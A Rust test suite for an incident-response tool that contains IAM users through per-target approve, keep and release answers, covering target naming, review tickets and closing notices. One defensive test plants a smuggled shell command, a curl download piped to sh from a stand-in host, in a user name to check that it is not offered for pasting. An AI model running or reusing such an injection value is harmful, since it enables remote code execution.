//! An incident is answered target by target, and asks only about the rest.

use firebreak::answer::{Answer, Decided, Targets, is_left_out};
use firebreak::containment::Containment;
use firebreak::decision::{Decision, Mode};
use firebreak::ids::AccountId;
use firebreak::incident::{Incident, IncidentStatus};
use firebreak::naming::Named;
use firebreak::notice::{NoticeKind, mail, notice, ticket};
use firebreak::plan::{Circumstances, plan_json};
use firebreak::policy::Policy;
use firebreak::receipt::{Receipt, Status};
use firebreak::report::Report;
use firebreak::review::Takes;
use firebreak::target::TargetKind;
use jiff::{SignedDuration, Timestamp};

const AT: Timestamp = Timestamp::constant(1_795_000_000, 0);

/// Three users whose containment waits for an approval.
fn three() -> Incident {
    let event = include_bytes!("../../../../fixtures/findings/guardduty/exfiltration-iam-user.json");
    let policy = Policy::unrestricted();
    let plan = plan_json(event, &Circumstances::new(&policy, AT)).expect("a plan");
    let mut incident = Incident::new(plan, &policy, "arn".to_owned(), AT);
    let like = incident.decisions[0].clone();
    let about = |user: &str| {
        let mut decision = Decision { mode: Mode::Gate, ..like.clone() };
        user.clone_into(&mut decision.target.id);
        decision
    };
    incident.decisions = ["alice", "bob", "carol"].map(about).to_vec();
    incident
}

fn only(names: &[&str]) -> Targets {
    Targets { only: names.iter().map(|name| (*name).to_owned()).collect(), except: vec![] }
}

fn says(answer: Answer, targets: Targets) -> Decided {
    Decided { targets, covers: Some(0), ..Decided::new(answer, "ann", "it was so", AT) }
}

/// The same, carried out.
fn settled(before: &Incident, decided: &Decided) -> Incident {
    let mut after = before.clone();
    after.settle(decided, |_| true);
    after.stamp(before);
    after
}

fn waiting(incident: &Incident) -> Vec<&str> {
    incident.unanswered().map(|decision| decision.target.id.as_str()).collect()
}

fn approvable(incident: &Incident, targets: &Targets) -> Vec<String> {
    Report::default().approvable(incident, Some(0), targets).map(|decision| decision.target.id.clone()).collect()
}

fn receipt(incident: &Incident, user: &str, status: Status) -> Receipt {
    let of_user = |decision: &&Decision| decision.target.id == user;
    let target = incident.decisions.iter().find(of_user).expect("a user").target.clone();
    Receipt { finished_at: Some(AT), ..Receipt::of(target, Containment::QuarantineIam, status) }
}

#[test]
fn a_target_is_named_by_its_id_or_by_its_whole_name() {
    let incident = three();
    let alice = &incident.decisions[0].target;
    for name in ["alice", "IAM user alice"] {
        assert!(only(&[name]).includes(alice), "{name}");
        assert!(!Targets { only: vec![], except: vec![name.to_owned()] }.includes(alice), "{name}");
    }
    assert!(Targets::default().includes(alice) && !Targets::default().names(alice));
    assert!(!only(&["alic", "user alice", "Alice"]).includes(alice));
}

#[test]
fn three_wait_one_is_approved_and_the_other_two_are_asked_again() {
    let incident = three();
    let one = says(Answer::Approve, only(&["bob"]));
    assert_eq!(approvable(&incident, &one.targets), ["bob"]);
    assert_eq!(incident.left_by(&one).len(), 2, "the notice says so");
    let after = settled(&incident, &one);
    assert_eq!((waiting(&after), after.revision), (vec!["alice", "carol"], 0), "nothing was decided anew");
    assert_eq!(approvable(&after, &Targets::default()), ["alice", "carol"], "a bare approval leaves what is settled");
    assert_eq!(after.open_of(&one).count(), 0, "it is carried out");
    let rest = says(Answer::Keep, Targets::default());
    assert!(after.left_by(&rest).is_empty());
    let over = settled(&after, &rest);
    assert_eq!((waiting(&over).len(), over.end(Answer::Keep)), (0, IncidentStatus::Closed));
    assert_eq!(over.answered_mixed().as_deref(), Some("closed, with several answers: 2 kept, 1 approved"));
}

#[test]
fn an_incident_is_released_only_if_everything_was_released() {
    let part = settled(&three(), &says(Answer::Release, only(&["bob"])));
    let rest = says(Answer::Release, Targets::default());
    assert_eq!(settled(&part, &rest).end(Answer::Release), IncidentStatus::Released);
    assert_eq!(settled(&part, &says(Answer::Keep, Targets::default())).end(Answer::Keep), IncidentStatus::Closed);
    let kept = settled(&three(), &says(Answer::Keep, only(&["bob"])));
    assert_eq!(settled(&kept, &rest).end(Answer::Release), IncidentStatus::Closed, "what was kept is not put back");
}

#[test]
fn what_others_use_is_approved_by_its_name_and_by_nothing_else() {
    let mut incident = three();
    incident.decisions[1].only_by_name = true;
    let bare = says(Answer::Approve, Targets::default());
    assert_eq!(approvable(&incident, &bare.targets), ["alice", "carol"]);
    assert_eq!(waiting(&settled(&incident, &bare)), ["bob"], "it is asked again");
    let except = Targets { only: vec![], except: vec!["alice".to_owned()] };
    assert_eq!(approvable(&incident, &except), ["carol"]);
    assert_eq!(approvable(&incident, &only(&["bob"])), ["bob"]);
    for without in [says(Answer::Keep, Targets::default()), Decided { accept_open: vec!["bob".to_owned()], ..bare }] {
        assert_eq!(waiting(&settled(&incident, &without)), [""; 0], "{without:?}");
    }
}

#[test]
fn a_name_that_others_have_too_does_not_have_done_what_hits_others() {
    let mut incident = three();
    let mut role = incident.decisions[1].clone();
    (role.target.kind, role.only_by_name) = (TargetKind::IamRole, true);
    incident.decisions.push(role.clone());
    let bob = only(&["bob"]);
    // As an earlier version recorded it.
    let report = Report::default();
    let kinds: Vec<TargetKind> = report.approvable(&incident, Some(0), &bob).map(|decision| decision.target.kind).collect();
    assert_eq!(kinds, [TargetKind::IamUser]);
    let own = incident.name_of(&role.target);
    assert_eq!((own.as_str(), approvable(&incident, &only(&[&own]))), ("IAM role bob", vec!["bob".to_owned()]));
    let body = mail(&ticket(&incident, &Report::default(), 1)).body;
    let code = firebreak::revision::code(&incident.shown());
    assert!(body.contains(&format!("--shown {code} --only=\"IAM role bob\" --comment")), "{body}");
    // Nothing that is decided later takes an answer's meaning away.
    incident.decisions[1].since = 1;
    assert_eq!(approvable(&incident, &bob), ["bob"]);
}

#[test]
fn a_name_begins_with_account_and_region_where_two_accounts_share_the_whole_name() {
    let mut incident = three();
    let mut other = incident.decisions[0].clone();
    other.target.account = AccountId::parse("999988887777").expect("an account");
    incident.decisions.push(other.clone());
    let own = incident.name_of(&other.target);
    assert_eq!(own, format!("999988887777/{}/IAM user alice", other.target.region.as_str()));
    assert_eq!(incident.named(&own), Named::One(&other.target));
    assert!(matches!(incident.named("IAM user alice"), Named::Several(names) if names.len() == 2 && names.contains(&own)));
    assert_eq!((incident.named("mallory"), incident.name_of(&incident.decisions[1].target).as_str()), (Named::Nobody, "bob"));
    // The Region of an IAM user is that of whichever finding named it.
    assert!(only(&["999988887777/us-east-1/IAM user alice"]).includes(&other.target));
    // Two names that are printed alike are told apart by their mark.
    for (at, name) in [(0, "eve\u{200b}"), (3, "eve\u{200c}")] {
        let target = &mut incident.decisions[at].target;
        (target.kind, target.id) = (TargetKind::IdentityCenterUser, name.to_owned());
    }
    for at in [0, 3] {
        let target = &incident.decisions[at].target;
        assert_eq!(incident.named(&incident.name_of(target)), Named::One(target));
    }
}

#[test]
fn what_is_decided_anew_about_a_settled_target_is_asked_and_what_is_not_stays_settled() {
    let kept = settled(&three(), &says(Answer::Keep, Targets::default()));
    let mut raised = kept.clone();
    raised.decisions[0].mode = Mode::Auto;
    raised.stamp(&kept);
    assert_eq!(waiting(&raised), ["alice"]);
    let mut more = kept.clone();
    let mut new = kept.decisions[0].clone();
    "dave".clone_into(&mut new.target.id);
    more.decisions.push(new);
    more.stamp(&kept);
    assert_eq!(waiting(&more), ["dave"]);
}

#[test]
fn what_an_approval_could_not_contain_stays_open_and_what_somebody_keeps_does_not() {
    let incident = three();
    let all = says(Answer::Approve, Targets::default());
    let gated = [("alice", Status::Contained), ("bob", Status::Failed), ("carol", Status::Waits)];
    let gated = gated.map(|(user, status)| receipt(&incident, user, status)).to_vec();
    let report = Report { gated, ..Report::default() };
    let mut after = incident.clone();
    after.settle(&all, |decision| report.is_carried_out(decision, &all));
    assert_eq!(waiting(&after), ["alice", "bob", "carol"], "a release may still undo all of it");
    assert_eq!(report.unfinished_of(&after, &all).len(), 2);
    let done = says(Answer::Approve, only(&["alice"]));
    after.settle(&done, |decision| report.is_carried_out(decision, &done));
    assert_eq!(waiting(&after), ["bob", "carol"]);
    let keep = says(Answer::Keep, only(&["bob"]));
    assert_eq!(report.unfinished_of(&after, &keep), [""; 0]);
    after.settle(&keep, |decision| report.is_carried_out(decision, &keep));
    assert_eq!(report.unfinished_of(&after, &all).len(), 1, "a later approval does not fail by what was kept");
    let none = Report::default();
    assert!(incident.decisions.iter().all(|decision| !none.is_carried_out(decision, &all)), "nobody tried it");
}

#[test]
fn the_next_ticket_asks_about_the_rest_and_says_who_answered_what() {
    let incident = three();
    let report = Report { gated: vec![receipt(&incident, "bob", Status::Contained)], ..Report::default() };
    let first = mail(&ticket(&incident, &Report::default(), 1));
    assert!(first.body.contains("--only=\"IAM user carol\""), "{}", first.body);
    let one = says(Answer::Approve, only(&["bob"]));
    let after = settled(&incident, &one);
    let closed = mail(&notice(NoticeKind::Closed, &incident, &report, Some(&one), 1));
    assert!(closed.subject.contains("the rest is asked again") && closed.body.contains("About: only bob"), "{closed:?}");
    let again = mail(&ticket(&after, &report, 1));
    assert!(again.subject.contains("again, the rest"), "{}", again.subject);
    assert!(again.body.contains("Answered before, and closed:\n  - IAM user bob: approve by ann"), "{}", again.body);
    assert_eq!(again.body.matches("IAM user bob").count(), 1, "{}", again.body);
    let code = firebreak::revision::code(&after.shown());
    let overdue = mail(&notice(NoticeKind::ReviewOverdue, &after, &report, None, 1));
    for body in [&again.body, &overdue.body] {
        assert!(body.contains("IAM user alice") && body.contains(&format!("--shown {code}")), "{body}");
    }
    assert!(!overdue.body.contains("IAM user bob"), "{}", overdue.body);
    let last = settled(&after, &says(Answer::Keep, only(&["alice"])));
    assert!(!mail(&ticket(&last, &report, 1)).body.contains("--only"), "there is no part of one target");
}

#[test]
fn a_name_that_a_shell_would_read_is_no_example_to_paste() {
    let mut incident = three();
    "carol\"; curl evil.example | sh; \"".clone_into(&mut incident.decisions[2].target.id);
    let body = mail(&ticket(&incident, &Report::default(), 1)).body;
    assert!(body.contains("--only=\"IAM user bob\""), "{body}");
}

#[test]
fn a_gate_of_an_earlier_version_is_offered_the_answers_that_it_knows() {
    let (incident, report) = (three(), Report::default());
    let offered = |takes: &Takes| mail(&ticket(&incident, &report, 1).for_gate(takes)).body;
    let new = Takes { answers: vec![Answer::Keep, Answer::Approve, Answer::Release], parts: true };
    assert!(offered(&new).contains("firebreak review keep") && offered(&new).contains("--only"));
    let before = offered(&Takes::default());
    assert!(!before.contains("review keep") && !before.contains("--only"), "{before}");
    assert!(before.contains("firebreak review approve") && before.contains("firebreak review release"), "{before}");
    assert!(new.can(Answer::Keep, &only(&["bob"])) && !Takes::default().can(Answer::Keep, &Targets::default()));
    assert!(!Takes::default().can(Answer::Release, &only(&["bob"])));
}

#[test]
fn what_keep_leaves_undone_is_said_when_the_incident_closes() {
    let incident = three();
    let keep = says(Answer::Keep, Targets::default());
    let closed = mail(&notice(NoticeKind::Closed, &incident, &Report::default(), Some(&keep), 1));
    assert!(closed.subject.contains("Closed, NOT all contained"), "{}", closed.subject);
    for user in ["alice", "bob", "carol"] {
        assert!(closed.body.contains(&format!("IAM user {user}: left as it is")), "{}", closed.body);
    }
    let contained = ["alice", "bob", "carol"].map(|user| receipt(&incident, user, Status::Contained)).to_vec();
    let report = Report { gated: contained, ..Report::default() };
    let closed = mail(&notice(NoticeKind::Closed, &incident, &report, Some(&keep), 1));
    assert!(closed.subject.contains("Kept and closed"), "{}", closed.subject);
}

#[test]
fn another_execution_contains_nothing_at_once_that_a_person_released_or_left() {
    let mut incident = three();
    incident.decisions.iter_mut().for_each(|decision| decision.mode = Mode::Auto);
    let anew = incident.clone();
    for (answer, name) in [(Answer::Release, "alice"), (Answer::Keep, "bob"), (Answer::Approve, "carol")] {
        incident.settle(&says(answer, only(&[name])), |_| true);
    }
    let taken = anew.taken_over_from(incident, true);
    let modes: Vec<Mode> = taken.decisions.iter().map(|decision| decision.mode).collect();
    assert_eq!((modes, taken.settled.len()), (vec![Mode::Gate, Mode::Gate, Mode::Auto], 0));
    assert!(taken.decisions[0].reason.contains("answered before: release by ann"), "{}", taken.decisions[0].reason);
}

#[test]
fn nobody_is_told_to_contain_what_was_released_as_a_false_alarm() {
    let before = AT.checked_sub(jiff::SignedDuration::from_mins(5)).expect("a time");
    let alarm = Decided { at: before, ..says(Answer::Release, only(&["bob"])) };
    let mut incident = three();
    incident.decisions[2].only_by_name = true;
    let mut named = incident.clone();
    named.settle(&Decided { at: before, ..says(Answer::Release, only(&["carol"])) }, |_| true);
    let incident = settled(&incident, &alarm);
    // Its containment had failed, or a release put it back: people have nothing to do about it.
    let contained = |user: &str| receipt(&incident, user, Status::Contained);
    let mut report = Report { gated: vec![contained("alice"), contained("carol")], ..Report::default() };
    for (status, release) in [(Status::Failed, Status::Skipped), (Status::Contained, Status::Contained)] {
        report.containment.receipts = vec![receipt(&incident, "bob", status)];
        report.release.receipts = vec![receipt(&incident, "bob", release)];
        for (answer, subject) in [(Answer::Approve, "Approved and closed"), (Answer::Keep, "Kept and closed")] {
            let targets = if answer == Answer::Approve { only(&["alice", "carol"]) } else { Targets::default() };
            let closed = mail(&notice(NoticeKind::Closed, &incident, &report, Some(&says(answer, targets)), 1));
            assert!(closed.subject.contains(subject), "{}", closed.subject);
            for words in ["yours to contain", "bob: left as it is"] {
                assert!(!closed.body.contains(words), "{words}: {}", closed.body);
            }
        }
    }
    let keep = says(Answer::Keep, Targets::default());
    let closed = mail(&notice(NoticeKind::Closed, &named, &Report::default(), Some(&keep), 1));
    assert!(!closed.body.contains("named by no answer") && closed.body.contains("alice: left as it is"), "{}", closed.body);
}

#[test]
fn what_an_answer_leaves_out_by_name_no_look_carries_out_until_somebody_answers_anew() {
    let incident = three();
    let bob = &incident.decisions[1];
    let except = says(Answer::Approve, Targets { only: vec![], except: vec!["bob".to_owned()] });
    let accepts = Decided { accept_open: vec!["bob".to_owned()], ..says(Answer::Approve, only(&["alice"])) };
    let anew = Decided { at: AT + SignedDuration::from_secs(1), ..says(Answer::Approve, only(&["bob"])) };
    for left in [&except, &accepts] {
        assert!(!left.is_about(bob) && left.speaks_of(bob) && is_left_out(&[left], bob), "{left:?}");
        assert!(!left.speaks_of(&Decision { since: 1, ..bob.clone() }), "no ticket showed it");
        assert!(!is_left_out(&[left, &anew], bob) && !left.leaves_out(&incident.decisions[0]), "{left:?}");
    }
    assert!(!says(Answer::Approve, only(&["alice"])).speaks_of(bob), "nobody named it");
    for (answer, mode, waited, is_left) in [
        (Answer::Approve, Mode::Auto, None, true),
        (Answer::Release, Mode::Auto, None, false),
        (Answer::Keep, Mode::Auto, None, false),
        (Answer::Release, Mode::Gate, None, true),
        (Answer::Keep, Mode::Auto, Some(0), true),
    ] {
        let decision = Decision { mode, waited, ..bob.clone() };
        let said = says(answer, except.targets.clone());
        assert_eq!(is_left_out(&[&said], &decision), is_left, "{answer:?} {mode:?} {waited:?}");
    }
}

#[test]
fn whoever_keeps_what_waits_keeps_it_although_a_look_raises_it_in_that_moment() {
    let mut incident = three();
    let bob = Decision { mode: Mode::Auto, since: 5, waited: Some(0), ..incident.decisions[1].clone() };
    incident.decisions[1] = bob.clone();
    for answer in [Answer::Keep, Answer::Release] {
        let said = says(answer, Targets::default());
        assert!(!said.is_about(&bob) && said.speaks_of(&bob), "{answer:?}");
        assert!(!said.speaks_of(&Decision { waited: None, ..bob.clone() }), "{answer:?}: nobody saw it");
        assert!(!says(answer, only(&["alice"])).speaks_of(&bob), "{answer:?}");
    }
    assert!(!says(Answer::Approve, Targets::default()).speaks_of(&bob), "whoever approves wants it");
    incident.settle(&says(Answer::Keep, Targets::default()), |_| true);
    assert_eq!(waiting(&incident), [""; 0]);
}
